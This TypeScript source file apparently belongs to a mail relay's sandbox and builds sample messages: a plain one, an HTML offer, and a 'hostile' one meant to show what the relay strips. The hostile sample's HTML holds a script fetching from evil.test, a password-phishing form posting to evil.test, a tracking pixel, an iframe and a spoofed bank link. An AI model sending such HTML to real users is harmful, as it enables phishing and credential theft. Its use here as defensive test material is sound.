// Messages that the sandbox sends by itself, each to show something: a plain one with a network to hide, one with HTML, and
// one that tries what mail should not.

import { randomBytes } from 'node:crypto';
import type { SampleKind } from '../control/sandbox/sandbox-desk.ts';
import { mailDate } from '../protocol/mime/mail-date.ts';

const BOUNDARY = 'sample-boundary';

/** What a server of the customer would write on top: the relay hides it. */
const BEHIND = [
  'Received: from laptop-ada.lan ([10.20.30.40])',
  '\tby mail.demo.test with ESMTPSA id 4711',
  '\tfor <bob@example.org>; Mon, 05 Jan 2026 08:00:00 +0000',
  'X-Originating-IP: [10.20.30.40]',
];

const PARTS: Readonly<Record<SampleKind, { subject: string; text: string; html?: string }>> = {
  text: {
    subject: 'Hello from the sandbox',
    text: 'Hello Bob,\n\nthis message came in over SMTP, was checked, freed of what it told about\nmy network, signed, and delivered to you.\n\nAda\n',
  },
  html: {
    subject: 'Your offer, with a table',
    text: 'Hello Bob,\n\nhere is the offer: 3 chairs at 120 euros.\n\nAda\n',
    html: '<h2>Your offer</h2><p>Hello <b>Bob</b>,</p><table><tr><th>Chairs</th><td>3</td></tr><tr><th>Each</th><td>120 €</td></tr></table><p>See <a href="https://demo.test/offer">the whole offer</a>.</p>',
  },
  hostile: {
    subject: 'You have won (a message that means no good)',
    text: 'You have won. This message has a script, a form, and pictures from elsewhere.\n',
    html:
      '<meta http-equiv="refresh" content="0;url=https://evil.test/refresh"><h2 onclick="steal()">You have won!</h2>' +
      '<script>document.title = "taken over"; fetch("https://evil.test/script")</script>' +
      '<p style="background:url(https://evil.test/style)">Confirm your <b>password</b>:</p>' +
      '<form action="https://evil.test/form"><input name="password"><button>Send</button></form>' +
      '<img src="https://evil.test/pixel.gif" onerror="document.title = 1"><iframe src="https://evil.test/frame"></iframe>' +
      '<p><a href="https://evil.test/login">www.bank.example</a></p>',
  },
};

/** The content of a sample, line ends as they go over the wire. */
export function sampleMessage(kind: SampleKind, now: number): string {
  const { subject, text, html } = PARTS[kind];
  const type = html === undefined ? 'text/plain; charset=utf-8' : `multipart/alternative; boundary="${BOUNDARY}"`;
  const header = [
    ...BEHIND,
    'From: Ada <ada@demo.test>',
    'To: Bob <bob@example.org>',
    `Subject: ${subject}`,
    `Date: ${mailDate(now)}`,
    `Message-ID: <${randomBytes(8).toString('hex')}@mail.demo.test>`,
    'MIME-Version: 1.0',
    `Content-Type: ${type}`,
    'Content-Transfer-Encoding: 8bit',
  ];
  const body = html === undefined ? text : alternative(text, html);
  return `${header.join('\n')}\n\n${body}`.replaceAll('\n', '\r\n');
}

function alternative(text: string, html: string): string {
  const part = (type: string, content: string) =>
    `--${BOUNDARY}\nContent-Type: ${type}; charset=utf-8\nContent-Transfer-Encoding: 8bit\n\n${content}\n`;
  return `${part('text/plain', text)}${part('text/html', html)}--${BOUNDARY}--\n`;
}
